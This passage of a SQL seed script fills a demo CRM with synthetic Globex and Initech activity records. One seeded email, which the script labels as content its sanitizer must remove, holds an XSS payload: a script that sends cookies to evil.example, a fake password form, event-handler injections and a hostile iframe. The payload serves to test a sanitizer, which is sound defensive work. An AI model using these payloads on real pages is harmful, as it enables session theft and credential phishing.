         'Field mapping, sync schedule and error handling. David owns the ERP side, we own the CRM side.')
FROM (
  SELECT seq AS n, seq % 5 AS k,
         @day0 - INTERVAL (5 + FLOOR((25 - seq) * 715 / 25)) DAY + INTERVAL 14 HOUR + INTERVAL (seq % 6) * 30 MINUTE AS at
  FROM seq_1_to_25
) g;

-- Notes: 36; every fourth is rich text.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  body_text, body_html)
SELECT ll_id('acti_'), @nw, @globex, 'note',
       IF(g.n % 3 = 0, @ben, @ada),
       ELT(g.n % 10 + 1, @c_margaret, @c_lukas, @c_david, @c_priya, @c_sofia, @c_lukas, NULL, NULL, @c_sofia, NULL),
       g.at, g.at, g.at, g.txt,
       IF(g.n % 4 = 0,
          CONCAT('<p><strong>', ELT(g.n % 3 + 1, 'Account note', 'Heads-up', 'For the team'), '</strong></p><p>', g.txt,
                 '</p><ul><li>Owner: ', IF(g.n % 3 = 0, 'Ben', 'Ada'), '</li><li>Review at the <em>next QBR</em></li></ul>'),
          NULL)
FROM (
  SELECT seq AS n,
         @day0 - INTERVAL (6 + FLOOR((36 - seq) * 720 / 36)) DAY
               + INTERVAL (780 + (seq * 37 + 211) % 300) MINUTE + INTERVAL (seq * 29 % 60) SECOND AS at,
         ELT(seq % 10 + 1,
           'Margaret prefers calls before 10am Eastern; her afternoons are blocked by production meetings.',
           'Procurement at Globex GmbH requires a purchase order number on every invoice. Ask Lukas for it before invoicing.',
           'David is cautious about API limits. Offer the temporary Sunday increase before each full sync, do not wait for him to ask.',
           'Priya signs off on anything above $25k. Send her the numbers in writing; she does not approve anything on a call.',
           'The Madrid team works mostly from their phones. Test the Spanish templates on mobile before every change.',
           'A competitor pitched the Munich office last week. Lukas says they are not planning to switch, but watch the renewal.',
           'Globex fiscal year ends in September; budget requests are due in July.',
           'Support ticket about slow mobile sync in the warehouse closed after the offline mode release.',
           'Sofía wants a Barcelona kickoff in person. Check the travel budget with Ben.',
           'Globex marketing still has to approve the logo use and the case study draft.') AS txt
  FROM seq_1_to_36
) g;

-- Custom activities: 10 site visits and 10 demo feedbacks, values below.
INSERT INTO activities (pid, organization_id, lead_id, type, custom_type_id, user_id, contact_id, activity_at, date_created, date_updated)
SELECT ll_id('acti_'), @nw, @globex, 'custom', IF(g.n % 2, @at_visit, @at_demo),
       IF(g.n % 4 IN (1, 2), @ada, @ben),
       ELT(g.n % 5 + 1, @c_margaret, @c_lukas, @c_david, @c_sofia, @c_priya),
       g.at, g.at, g.at
FROM (
  SELECT seq AS n,
         @day0 - INTERVAL (8 + FLOOR((20 - seq) * 700 / 20)) DAY + INTERVAL 15 HOUR + INTERVAL (seq * 11 % 60) MINUTE AS at
  FROM seq_1_to_20
) g;

INSERT INTO activity_custom_values (organization_id, activity_id, field_id, value)
SELECT @nw, r.id, f.id,
       CASE f.name
         WHEN 'Site' THEN ELT(r.r % 4 + 1, 'Springfield HQ', 'Springfield warehouse', 'Munich office', 'Madrid office')
         WHEN 'Outcome' THEN IF(r.r = 3, 'Negative', ELT(r.r % 3 + 1, 'Positive', 'Neutral', 'Positive'))
         WHEN 'Observations' THEN ELT(r.r % 4 + 1,
           'Sales floor of 40 people, most of them on the phone all day. Dashboards on two wall screens would help.',
           'Warehouse Wi-Fi is weak near the loading docks; the mobile app needs the offline mode there.',
           'The Munich team still keeps a paper list of key accounts next to the CRM. Training needed.',
           'Madrid office is small but very organised; they asked for Spanish report templates.')
         WHEN 'Rating' THEN 3 + r.r % 3
         WHEN 'Module Shown' THEN ELT(r.r % 5 + 1, 'Pipeline', 'Reporting', 'Sequences', 'Mobile app', 'API')
         WHEN 'Follow-up Date' THEN DATE_FORMAT(r.activity_at + INTERVAL 7 DAY, '%Y-%m-%d')
       END
FROM (SELECT a.id, a.custom_type_id, a.activity_at,
             ROW_NUMBER() OVER (PARTITION BY a.custom_type_id ORDER BY a.activity_at, a.id) AS r
      FROM activities a WHERE a.lead_id = @globex AND a.type = 'custom') r
JOIN custom_activity_fields f ON f.type_id = r.custom_type_id;

-- Lead status changes.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, activity_at, date_created, date_updated,
  old_status_id, new_status_id, old_status_label, new_status_label) VALUES
  (ll_id('acti_'), @nw, @globex, 'lead_status_change', @ben,
   @day0 - INTERVAL 700 DAY + INTERVAL 16 HOUR, @day0 - INTERVAL 700 DAY + INTERVAL 16 HOUR, @day0 - INTERVAL 700 DAY + INTERVAL 16 HOUR,
   @ls_potential, @ls_qualified, 'Potential', 'Qualified'),
  (ll_id('acti_'), @nw, @globex, 'lead_status_change', @ada,
   @day0 - INTERVAL 400 DAY + INTERVAL 17 HOUR + INTERVAL 5 MINUTE, @day0 - INTERVAL 400 DAY + INTERVAL 17 HOUR + INTERVAL 5 MINUTE,
   @day0 - INTERVAL 400 DAY + INTERVAL 17 HOUR + INTERVAL 5 MINUTE,
   @ls_qualified, @ls_customer, 'Qualified', 'Customer');

-- Opportunity status changes, as each opportunity moved.
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  opportunity_id, old_status_id, new_status_id, old_status_label, new_status_label)
SELECT ll_id('acti_'), @nw, @globex, 'opportunity_status_change', c.u, c.ct, c.at, c.at, c.at,
       c.o, c.os, c.ns, so.label, sn.label
FROM (
  SELECT c0.o, c0.os, c0.ns, c0.u, c0.ct, @day0 - INTERVAL c0.d DAY + INTERVAL 16 HOUR + INTERVAL 30 MINUTE AS at
  FROM (
    SELECT @o_won AS o, @os_active AS os, @os_proposal AS ns, 510 AS d, @ada AS u, @c_priya AS ct
    UNION ALL SELECT @o_won, @os_proposal, @os_negot, 460, @ada, @c_priya
    UNION ALL SELECT @o_won, @os_negot, @os_won, 400, @ada, @c_priya
    UNION ALL SELECT @o_lost, @os_active, @os_proposal, 280, @ada, @c_sofia
    UNION ALL SELECT @o_lost, @os_proposal, @os_lost, 200, @ada, @c_sofia
    UNION ALL SELECT @o_munich, @os_active, @os_proposal, 70, @ben, @c_lukas
    UNION ALL SELECT @o_munich, @os_proposal, @os_negot, 35, @ben, @c_lukas
    UNION ALL SELECT @o_expand, @os_active, @os_proposal, 20, @ada, @c_priya
  ) c0
) c
JOIN opportunity_statuses so ON so.id = c.os
JOIN opportunity_statuses sn ON sn.id = c.ns;

-- Tasks completed (the two completed tasks above).
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  task_id, body_text)
SELECT ll_id('acti_'), @nw, @globex, 'task_completed', t.assigned_to, t.contact_id,
       t.date_completed, t.date_completed, t.date_completed, t.id, t.text
FROM tasks t WHERE t.id IN (@t_security, @t_madrid);

-- Emails with attachments, and one whose HTML carries what the sanitizer must remove (L7).
SET @at = @day0 - INTERVAL 401 DAY + INTERVAL 18 HOUR + INTERVAL 20 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, recipients_cc, body_text)
VALUES (ll_id('acti_'), @nw, @globex, 'email', @ada, @c_priya, @at, @at, @at,
  'incoming', 'Signed order form', @e_priya, 'ada@northwind.test', @e_margaret,
  'Hi Ada,\n\nPlease find attached the order form for the first ninety seats, signed by Margaret and by me. Our purchase order will follow from procurement within the next few days, and the invoice should go to the accounts payable address in the form.\n\nWe are looking forward to getting started.\n\nBest,\nPriya');
SET @a_order = LAST_INSERT_ID();
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'Globex signed order form.pdf', @f_proposal_pdf_size, @f_proposal_pdf_sha,
  'application/octet-stream', 'application/pdf', 'pdf', @at, @ada, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_order, LAST_INSERT_ID());

SET @at = @day0 - INTERVAL 20 DAY + INTERVAL 15 HOUR + INTERVAL 10 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, recipients_cc, body_text, body_html)
VALUES (ll_id('acti_'), @nw, @globex, 'email', @ada, @c_priya, @at, @at, @at,
  'outgoing', 'Proposal: Northwind CRM for Globex (120 seats)', 'ada@northwind.test', @e_priya,
  CONCAT(@e_margaret, ', ben@northwind.test'),
  'Dear Priya,\n\nAs discussed with Margaret last week, here is our proposal for the renewal and the expansion to 120 seats, including the Analytics add-on and API Access for the ERP sync. The price per seat stays the same and the ten percent volume discount applies to the whole contract.\n\nThe proposal is valid until the end of next month. I am happy to walk your committee through it.\n\nWarm regards,\nAda Lovelace\nNorthwind Traders',
  '<div><p>Dear Priya,</p><p>As discussed with Margaret last week, here is our proposal for the renewal and the expansion to <strong>120 seats</strong>, including the Analytics add-on and API Access for the ERP sync. The price per seat stays the same and the ten percent volume discount applies to the whole contract.</p><p>The proposal is valid until the end of next month. You can also <a href="https://northwind.test/proposals/globex-120">read it online</a>.</p><p>Warm regards,<br>Ada Lovelace<br>Northwind Traders</p><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></div>');
SET @a_proposal = LAST_INSERT_ID();
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'Northwind Proposal – Globex Corporation.pdf', @f_proposal_pdf_size, @f_proposal_pdf_sha,
  'application/pdf', 'application/pdf', 'pdf', @at, @ada, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_proposal, LAST_INSERT_ID());

SET @at = @day0 - INTERVAL 45 DAY + INTERVAL 13 HOUR + INTERVAL 40 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, recipients_cc, body_text, body_html)
VALUES (ll_id('acti_'), @nw, @globex, 'email', @ben, @c_lukas, @at, @at, @at,
  'outgoing', 'Aktuelle Preisliste für die Globex GmbH', 'ben@northwind.test', @e_lukas, NULL,
  'Hallo Herr Weber,\n\nwie gestern am Telefon besprochen, finden Sie im Anhang unsere aktuelle Preisliste mit den Preisen in Euro. Für die zehn zusätzlichen Lizenzen in Hamburg gilt derselbe Preis wie für München, und die Schulung vor Ort kann auch auf einen Tag verkürzt werden.\n\nMelden Sie sich gerne, wenn Sie Fragen haben.\n\nMit freundlichen Grüßen\nBen Okafor',
  '<div><p>Hallo Herr Weber,</p><p>wie gestern am Telefon besprochen, finden Sie im Anhang unsere aktuelle Preisliste mit den Preisen in Euro. Für die zehn zusätzlichen Lizenzen in Hamburg gilt derselbe Preis wie für München, und die Schulung vor Ort kann auch auf einen Tag verkürzt werden.</p><p>Alle Details finden Sie auch auf <a href="https://northwind.test/de/preise">unserer Preisseite</a>.</p><p>Mit freundlichen Grüßen<br>Ben Okafor</p><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></div>');
SET @a_prices = LAST_INSERT_ID();
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'Preisliste Globex GmbH.csv', @f_price_list_csv_size, @f_price_list_csv_sha,
  'text/csv', 'text/csv', 'spreadsheet', @at, @ben, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_prices, LAST_INSERT_ID());

SET @at = @day0 - INTERVAL 90 DAY + INTERVAL 14 HOUR + INTERVAL 25 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, recipients_cc, body_text)
VALUES (ll_id('acti_'), @nw, @globex, 'email', @ada, @c_sofia, @at, @at, @at,
  'outgoing', 'Orden del día de la revisión trimestral', 'ada@northwind.test', @e_sofia, @e_margaret,
  'Hola Sofía:\n\nTe adjunto el orden del día de la revisión trimestral. Como verás, hemos reservado quince minutos para hablar del piloto de Madrid y de la posible ampliación a Barcelona. Si quieres añadir algún punto, dímelo antes del jueves y lo incluyo sin problema.\n\nUn saludo,\nAda');
SET @a_agenda = LAST_INSERT_ID();
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'QBR agenda.txt', @f_meeting_agenda_txt_size, @f_meeting_agenda_txt_sha,
  'text/plain', 'text/plain', 'text', @at, @ada, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_agenda, LAST_INSERT_ID());

SET @at = @day0 - INTERVAL 60 DAY + INTERVAL 16 HOUR + INTERVAL 55 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, recipients_cc, body_text, body_html)
VALUES (ll_id('acti_'), @nw, @globex, 'email', @ben, @c_david, @at, @at, @at,
  'incoming', 'Integration spec v0.3 for review', @e_david, 'ben@northwind.test', 'it-helpdesk@globex.example',
  'Hi Ben,\n\nAttached is version 0.3 of the integration spec for the ERP sync, plus a screenshot of the field mapping screen on our side. The two open questions at the end need an answer from your team before we schedule the first full sync.\n\nCould you review it by Friday?\n\nThanks,\nDavid',
  '<div><p>Hi Ben,</p><p>Attached is version 0.3 of the integration spec for the ERP sync, plus a screenshot of the field mapping screen on our side. The two open questions at the end need an answer from your team before we schedule the first full sync.</p><p>Could you review it by Friday? The ticket is <a href="https://jira.globex.example/browse/ERP-142">ERP-142</a>.</p><p>Thanks,<br>David</p><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></div>');
SET @a_spec = LAST_INSERT_ID();
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'erp-sync-spec-v0.3.json', @f_integration_spec_json_size, @f_integration_spec_json_sha,
  'application/json', 'application/json', 'text', @at, @ben, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_spec, LAST_INSERT_ID());
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'field-mapping screenshot.png', @f_site_photo_png_size, @f_site_photo_png_sha,
  'application/octet-stream', 'image/png', 'image', @at, @ben, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_spec, LAST_INSERT_ID());

SET @at = @day0 - INTERVAL 10 DAY + INTERVAL 19 HOUR + INTERVAL 2 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, recipients_cc, body_text, body_html)
VALUES (ll_id('acti_'), @nw, @globex, 'email', @ada, @c_margaret, @at, @at, @at,
  'incoming', 'Fwd: Invitation: Springfield Manufacturing Summit', @e_margaret, 'ada@northwind.test', NULL,
  'Hi Ada,\n\nForwarding this invitation from the organizers of the Springfield Manufacturing Summit. Our operations team will be there on both days, and it would be a good chance to meet the people from the Munich office in person. Would you or Ben like to join us at our booth?\n\nMargaret\n\n---------- Forwarded message ----------\nYou are invited to the Springfield Manufacturing Summit. Register now to reserve your seat.',
  '<html><head><style>body{font-family:Arial} .banner{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999}</style></head><body><p>Hi Ada,</p><p>Forwarding this invitation from the organizers of the Springfield Manufacturing Summit. Our operations team will be there on both days, and it would be a good chance to meet the people from the Munich office in person. Would you or Ben like to join us at our booth?</p><p>Margaret</p><hr><div class="banner" style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">You are invited!</div><script>document.location="https://evil.example/steal?c="+document.cookie</script><p><a href="https://summit.example/register" onclick="alert(document.cookie);return false;">Register now</a> &middot; <a href="javascript:alert(1)">Add to calendar</a></p><form action="https://evil.example/login" method="post"><input name="password" type="password"><button>Confirm your seat</button></form><img src="https://summit.example/banner.jpg" alt="Summit banner" onerror="alert(2)"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="dot"><iframe src="https://evil.example/frame"></iframe><img src="https://tracker.example/pixel.gif" width="1" height="1" alt=""></body></html>');
SET @a_evil = LAST_INSERT_ID();

-- An MMS with a photo.
SET @at = @day0 - INTERVAL 33 DAY + INTERVAL 12 HOUR + INTERVAL 15 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, local_phone, phone, body_text)
VALUES (ll_id('acti_'), @nw, @globex, 'sms', @ben, @c_lukas, @at, @at, @at,
  'incoming', '+49 30 5558 2201', @m_lukas,
  'Foto vom neuen Besprechungsraum in München. Passt der Raum für die Schulung mit zwölf Personen?');
SET @a_mms = LAST_INSERT_ID();
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'IMG_2041.png', @f_site_photo_png_size, @f_site_photo_png_sha,
  'image/png', 'image/png', 'image', @at, @ben, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_mms, LAST_INSERT_ID());

-- A note with an attachment.
SET @at = @day0 - INTERVAL 120 DAY + INTERVAL 14 HOUR;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  body_text, body_html)
VALUES (ll_id('acti_'), @nw, @globex, 'note', @ada, NULL, @at, @at, @at,
  'Onboarding checklist for the EMEA teams, exported from the project tracker. Munich is done, Madrid is in progress, Barcelona starts next year.',
  '<p>Onboarding checklist for the EMEA teams, exported from the project tracker.</p><ul><li>Munich: <strong>done</strong></li><li>Madrid: in progress</li><li>Barcelona: starts next year</li></ul>');
SET @a_note_file = LAST_INSERT_ID();
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'Onboarding checklist.html', @f_onboarding_checklist_html_size, @f_onboarding_checklist_html_sha,
  'text/html', 'text/html', 'document', @at, @ada, @at);
INSERT INTO activity_files (organization_id, activity_id, file_id) VALUES (@nw, @a_note_file, LAST_INSERT_ID());

-- Three pinned notes (P2 allows five).
SET @at = @day0 - INTERVAL 380 DAY + INTERVAL 15 HOUR + INTERVAL 30 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, activity_at, date_created, date_updated,
  body_text, body_html, pinned_at)
VALUES (ll_id('acti_'), @nw, @globex, 'note', @ada, @at, @at, @at,
  'Key facts: three offices (Springfield HQ, Munich, Madrid). Budget owner Priya Natarajan, champion Margaret Chen, technical owner David Park. Purchase orders are mandatory for Munich invoices.',
  '<p><strong>Key facts</strong></p><ul><li>Three offices: Springfield HQ, Munich, Madrid</li><li>Budget owner: Priya Natarajan</li><li>Champion: Margaret Chen</li><li>Technical owner: David Park</li></ul><p>Purchase orders are <em>mandatory</em> for Munich invoices.</p>',
  @at + INTERVAL 1 HOUR);
SET @at = @day0 - INTERVAL 250 DAY + INTERVAL 16 HOUR + INTERVAL 45 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, activity_at, date_created, date_updated,
  body_text, pinned_at)
VALUES (ll_id('acti_'), @nw, @globex, 'note', @ben, @at, @at, @at,
  'Escalation path: support tickets from Globex go to the premium queue. For outages call David Park on his mobile first, then email Margaret.',
  @at + INTERVAL 2 DAY);
SET @at = @day0 - INTERVAL 18 DAY + INTERVAL 13 HOUR + INTERVAL 20 MINUTE;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, activity_at, date_created, date_updated,
  body_text, pinned_at)
VALUES (ll_id('acti_'), @nw, @globex, 'note', @ada, @at, @at, @at,
  'No discounts above 10% without Ada''s approval. The 120-seat expansion is quoted at $48,000 per year.',
  @at + INTERVAL 5 MINUTE);

-- Files shared with the lead directly (no activity).
INSERT INTO files (pid, organization_id, lead_id, name, size, sha256, declared_type, sniffed_type, category, date_received, user_id, date_created)
VALUES (ll_id('file_'), @nw, @globex, 'Master Services Agreement – Globex.pdf', @f_proposal_pdf_size, @f_proposal_pdf_sha,
  'application/pdf', 'application/pdf', 'pdf', @day0 - INTERVAL 395 DAY + INTERVAL 17 HOUR, @ada, @day0 - INTERVAL 395 DAY + INTERVAL 17 HOUR),
  (ll_id('file_'), @nw, @globex, 'Globex logo.png', @f_site_photo_png_size, @f_site_photo_png_sha,
  'image/png', 'image/png', 'image', @day0 - INTERVAL 600 DAY + INTERVAL 14 HOUR, @ben, @day0 - INTERVAL 600 DAY + INTERVAL 14 HOUR);

UPDATE leads SET date_updated = (SELECT MAX(activity_at) FROM activities WHERE lead_id = @globex), updated_by = @ada
WHERE id = @globex;

-- ---------------------------------------------------------------------------
-- The other Northwind companies: a few activities, status changes and tasks.
-- ---------------------------------------------------------------------------

INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, body_text, phone, duration, outcome,
  title, starts_at, ends_at, attendees, location)
SELECT ll_id('acti_'), @nw, g.lead_id, ELT(g.s, 'note', 'call', 'email', 'meeting'), g.u, g.contact_id,
       g.at, g.at, g.at,
       IF(g.s IN (2, 3), 'outgoing', NULL),
       IF(g.s = 3, CASE g.country WHEN 'DE' THEN CONCAT('Nächste Schritte für ', g.lead)
                                  WHEN 'ES' THEN CONCAT('Próximos pasos para ', g.lead)
                                  ELSE CONCAT('Next steps for ', g.lead) END, NULL),
       IF(g.s = 3, g.umail, NULL),
       IF(g.s = 3, g.cmail, NULL),
       CASE g.s
         WHEN 1 THEN ELT(g.no % 4 + 1,
           'Met them at the regional trade fair. Interested in pipeline reporting; today they track deals in spreadsheets.',
           'Referred by an existing customer. Budget planning happens in the third quarter, follow up in time.',
           'Evaluating two other CRMs. Main concern is the data migration from their old system.',
           'Small team with a fast decision maker. Wants a trial for five seats before committing.')
         WHEN 2 THEN CONCAT('Discovery call with ', g.first, '. ', ELT(g.no % 4 + 1,
           'They have eight sales reps and no shared pipeline.', 'Needs an integration with their accounting software.',
           'Asked for references from companies of their size.', 'Interested, but nothing before the next budget cycle.'))
         WHEN 3 THEN CASE g.country
           WHEN 'DE' THEN CONCAT('Hallo ', g.first, ',\n\nvielen Dank für das freundliche Gespräch heute. Wie versprochen sende ich Ihnen eine kurze Übersicht, wie Teams wie Ihres bei ', g.lead,
                                 ' mit Northwind ihre Vertriebspipeline an einem Ort verwalten. Ich schlage eine halbstündige Vorführung in der kommenden Woche vor.\n\nViele Grüße\nBen Okafor')
           WHEN 'ES' THEN CONCAT('Hola ', g.first, ':\n\nMuchas gracias por tu tiempo hoy. Como te prometí, te envío un breve resumen de cómo equipos como el vuestro en ', g.lead,
                                 ' usan Northwind para tener todo el embudo de ventas en un solo lugar. Te propongo una demostración de media hora la semana que viene.\n\nUn saludo,\nBen')
           ELSE CONCAT('Hi ', g.first, ',\n\nThank you for your time today. As promised, here is a short overview of how teams like yours at ', g.lead,
                       ' use Northwind to keep their whole pipeline in one place. I would suggest a thirty-minute demo next week with the people who will use it every day.\n\nBest regards,\n',
                       IF(g.u = @ben, 'Ben', 'Ada'))
         END
         ELSE 'Showed pipeline, reporting and the mobile app. Good questions about importing their existing customer list.'
       END,
       IF(g.s = 2, g.cphone, NULL),
       IF(g.s = 2, IF(g.no % 3 = 0, 35, 120 + (g.no * 53) % 900), NULL),
       IF(g.s = 2, IF(g.no % 3 = 0, 'voicemail', 'answered'), NULL),
       IF(g.s = 4, 'Product demo', NULL),
       IF(g.s = 4, g.at, NULL), IF(g.s = 4, g.at + INTERVAL 45 MINUTE, NULL),
       IF(g.s = 4, CONCAT(g.cmail, ', ', g.umail), NULL),
       IF(g.s = 4, 'Zoom', NULL)
FROM (
  SELECT c.lead_id, c.contact_id, c.no, c.country, d.name AS lead, s.seq AS s,
         SUBSTRING_INDEX(c.name, ' ', 1) AS first,
         CONCAT(c.local, '@', c.domain) AS cmail,
         (SELECT p.phone FROM contact_phones p WHERE p.contact_id = c.contact_id ORDER BY p.position LIMIT 1) AS cphone,
         IF(s.seq = 1 AND c.no % 7 = 0, @dan, IF(c.country = 'US', @ada, @ben)) AS u,
         IF(s.seq = 1 AND c.no % 7 = 0, 'dan@northwind.test', IF(c.country = 'US', 'ada@northwind.test', 'ben@northwind.test')) AS umail,
         @day0 - INTERVAL (c.no * 5 + (4 - s.seq) * 9 + 2) DAY
               + INTERVAL (780 + (c.no * 41 + s.seq * 67) % 300) MINUTE AS at
  FROM demo_nwc c
  JOIN demo_nw d ON d.no = c.no
  JOIN seq_1_to_4 s ON s.seq <= 1 + c.no % 4
  WHERE c.k = 1 AND c.no % 5 <> 0
) g;

INSERT INTO activities (pid, organization_id, lead_id, type, user_id, activity_at, date_created, date_updated,
  old_status_id, new_status_id, old_status_label, new_status_label)
SELECT ll_id('acti_'), @nw, l.id, 'lead_status_change', IF(d.country = 'US', @ada, @ben),
       @day0 - INTERVAL (d.no * 4) DAY + INTERVAL 17 HOUR, @day0 - INTERVAL (d.no * 4) DAY + INTERVAL 17 HOUR,
       @day0 - INTERVAL (d.no * 4) DAY + INTERVAL 17 HOUR,
       @ls_potential, l.status_id, 'Potential', d.status
FROM demo_nw d JOIN leads l ON l.organization_id = @nw AND l.name = d.name
WHERE d.no > 2 AND d.status <> 'Potential';

INSERT INTO tasks (pid, organization_id, lead_id, text, due_date, assigned_to, contact_id, is_complete, date_created)
SELECT ll_id('task_'), @nw, c.lead_id,
       CONCAT(ELT(c.no % 3 + 1, 'Follow up with ', 'Send references to ', 'Schedule a demo with '), SUBSTRING_INDEX(c.name, ' ', 1)),
       IF(c.no % 4 = 3, NULL, @today + INTERVAL (c.no % 10 - 3) DAY),
       IF(c.country = 'US', @ada, @ben), c.contact_id, 0, @now - INTERVAL (10 + c.no) DAY
FROM demo_nwc c
JOIN demo_nw d ON d.no = c.no
WHERE c.k = 1 AND d.status IN ('Potential', 'Qualified') AND c.no % 2 = 1;

UPDATE leads l
JOIN (SELECT a.lead_id, MAX(a.activity_at) AS m FROM activities a
      WHERE a.organization_id = @nw AND a.lead_id NOT IN (@globex, @initech) GROUP BY a.lead_id) x ON x.lead_id = l.id
SET l.date_updated = GREATEST(l.date_created, x.m);

-- ---------------------------------------------------------------------------
-- Initech (archive): exactly 100,000 activities in one statement, one every
-- 3,153 seconds (about 52 minutes) over ten years, ending 45 days ago; notes,
-- calls, emails, SMS and meetings by turns. The oldest 30,000 are Dan's.
-- ---------------------------------------------------------------------------

SET @init_end = @day0 - INTERVAL 45 DAY + INTERVAL 20 HOUR;
INSERT INTO activities (pid, organization_id, lead_id, type, user_id, contact_id, activity_at, date_created, date_updated,
  direction, subject, sender, recipients_to, body_text, phone, local_phone, duration, outcome,
  title, starts_at, ends_at, attendees, location)
SELECT ll_id('acti_'), @nw, @initech, ELT(g.t + 1, 'note', 'call', 'email', 'sms', 'meeting'),
       g.u, IF(g.n % 3 = 0, @c_tom, @c_joanna), g.at, g.at, g.at,
       IF(g.t IN (1, 2, 3), IF(g.isout, 'outgoing', 'incoming'), NULL),
       IF(g.t = 2, CONCAT(ELT(g.v % 6 + 1, 'Order', 'Invoice', 'Delivery', 'Quote', 'Support ticket', 'Renewal'), ' #', 100000 + g.n), NULL),
       IF(g.t = 2, IF(g.isout, g.umail, g.cmail), NULL),
       IF(g.t = 2, IF(g.isout, g.cmail, g.umail), NULL),
       CASE g.t
         WHEN 0 THEN CONCAT(ELT(g.v % 8 + 1, 'Reordered toner and paper for the ', 'Checked the license count for the ',
                                'Updated the billing address for the ', 'Confirmed the delivery window for the ',
                                'Logged a complaint about a late shipment for the ', 'Sent the renewal reminder for the ',
                                'Discussed the new cover sheet for the TPS reports with the ', 'Price check requested by the '),
                            ELT(g.n DIV 40 % 5 + 1, 'Austin office', 'Dallas branch', 'Houston warehouse', 'accounting team', 'engineering floor'),
                            '. Reference ', 100000 + g.n, '.')
         WHEN 1 THEN IF(g.oc = 'answered',
                        CONCAT(ELT(g.v % 6 + 1, 'Called about order ', 'Follow-up on invoice ', 'Asked about the status of ticket ',
                                   'Quarterly check-in, reference ', 'Went through the quote ', 'Delivery problem with order '),
                               100000 + g.n,
                               ELT(g.n DIV 30 % 4 + 1, '; all sorted.', '; waiting for their answer.', '; will call back next week.', '; escalated to support.')),
                        IF(g.oc = 'voicemail', CONCAT('Left a voicemail about reference ', 100000 + g.n, '.'), 'No answer.'))
         WHEN 2 THEN CONCAT(IF(g.isout, CONCAT('Hello ', IF(g.n % 3 = 0, 'Tom', 'Joanna'), ',\n\n'), 'Hi,\n\n'),
                            ELT(g.v % 6 + 1, 'Thank you for your order. It will ship from our warehouse within three business days.',
                                'Please find the invoice for last month below. Payment terms are thirty days net.',
                                'The delivery is scheduled for Tuesday morning; someone needs to sign for it at the front desk.',
                                'Here is the quote you asked for. Prices are valid for sixty days.',
                                'We have received your support request and a technician will contact you today.',
                                'Your annual renewal is coming up next month. Let us know if the seat count changes.'),
                            ' Reference: ', 100000 + g.n, '.\n\n', IF(g.isout, 'Best regards', 'Thanks'))
         WHEN 3 THEN CONCAT(ELT(g.v % 5 + 1, 'Delivery arrives today between 9 and 11, ref ', 'Invoice sent, ref ',
                                'Can you call me back about ', 'Technician is on the way for ticket ', 'Thanks, received order '),
                            100000 + g.n)
         ELSE CONCAT(ELT(g.v % 4 + 1, 'Went through open orders and invoices.', 'Reviewed support tickets of the month.',
                         'Trained two new staff members on the ordering portal.', 'Planned next quarter''s supply budget.'),
